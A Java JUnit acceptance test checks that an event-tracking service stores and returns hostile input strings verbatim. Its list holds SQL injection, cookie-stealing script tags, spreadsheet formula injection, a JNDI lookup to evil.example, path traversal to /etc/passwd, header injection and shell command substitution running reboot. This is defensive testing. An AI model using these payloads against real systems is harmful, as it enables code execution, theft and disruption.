package io.throughline.deploy.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// Text that means something to a database, a browser, a spreadsheet, a template or a shell is stored and given back as text.
class HostileTextTest {
    private static final String SOURCE = "/channels/e-mail";
    private static final Instant TIME = Instant.parse("2026-03-02T18:12:00Z");
    private static final String TERMINAL = "user\u202Efdp.exe";
    private static final List<String> TEXTS = List.of(
            "'; DROP TABLE g1.touchpoint; --",
            "\" OR \"1\"=\"1",
            "$1 $$ $body$ \\'",
            "<script>alert(document.cookie)</script>",
            "\"><img src=x onerror=alert(1)>",
            "=HYPERLINK(\"http://evil.example\";\"click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
            "${jndi:ldap://evil.example/a}",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%00%0d%0aSet-Cookie:%20a=b",
            "$(reboot) `reboot` ; reboot | reboot",
            TERMINAL,
            "\u200B\uFEFF\u2028\u2029",
            "e\u0301 \u00e9 \u1E9E \u0130",
            "👩‍👩‍👧‍👦 𝒳 🏴󠁧󠁢󠁥󠁮󠁧󠁿 𠜎",
            "%s %n %x {} {0} {deadline}",
            "null", "NaN", "true", "-0", "1e400",
            "\\u0000 \\x00 \\0");

    private static Stack stack;
    private static List<JsonNode> journeys;

    /// All of it is sent before any of it is asked for: one wait serves all.
    @BeforeAll
    static void postAll() {
        stack = Stack.common();
        for (int i = 0; i < TEXTS.size(); i++) {
            stack.source(SOURCE).post(event(i, TEXTS.get(i))).with(202);
        }
        stack.settled();
        journeys = new ArrayList<>();
        for (var text : TEXTS) {
            journeys.add(stack.as("analyst").get("/v1/journeys", "identity", identity(text)).with(200).json());
        }
    }

    /// Nothing invisible may stand at the ends of an identity.
    private static String identity(String text) {
        return "customer:<" + text + ">";
    }

    /// The text in every field that may hold text. A source is a URI reference, in which it stands encoded.
    private static ObjectNode event(int number, String text) {
        var event = Events.event(SOURCE, text, text, identity(text), TIME);
        for (var attribute : List.of("channel", "sequence", "correlationid", "causationid", "extension1")) {
            event.put(attribute, text);
        }
        event.set("data", data(number, text));
        return event;
    }

    private static ObjectNode data(int number, String text) {
        var data = JsonNodeFactory.instance.objectNode();
        data.put("number", number).put("text", text).put(text, "as a name");
        data.putArray("list").add(text).addObject().put(text, text);
        return data;
    }

    @ParameterizedTest
    @MethodSource("numbers")
    void itComesBackAsItWasSent(int number) {
        var text = TEXTS.get(number);
        var touchpoints = journeys.get(number).path("touchpoints");
        assertThat(touchpoints).hasSize(1);
        var touchpoint = touchpoints.get(0);
        for (var field : List.of("id", "type", "channel", "sequence", "correlationId", "causationId")) {
            assertThat(touchpoint.path(field).asText()).as(field).isEqualTo(text);
        }
        assertThat(touchpoint.path("extensions").path("extension1").asText()).isEqualTo(text);
        assertThat(touchpoint.path("data")).isEqualTo(data(number, text));
    }

    @ParameterizedTest
    @MethodSource("numbers")
    void itsReceiptIsFoundByIt(int number) {
        var receipt = stack.as("analyst").get("/v1/receipts", "source", SOURCE, "id", TEXTS.get(number)).with(200).json();
        assertThat(receipt.path("status").asText()).isEqualTo("projected");
        assertThat(receipt.path("id").asText()).isEqualTo(TEXTS.get(number));
    }

    /// A terminal obeys control and format characters: none of them gets there.
    @Test
    void noneOfItReachesATerminalAsAnythingButText() {
        var out = stack.command("journey", identity(TERMINAL)).exits(0).out();
        assertThat(out).contains("\uFFFD").doesNotContainPattern("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}&&[^\\n\\r]]");
    }

    static IntStream numbers() {
        return IntStream.range(0, TEXTS.size());
    }
}
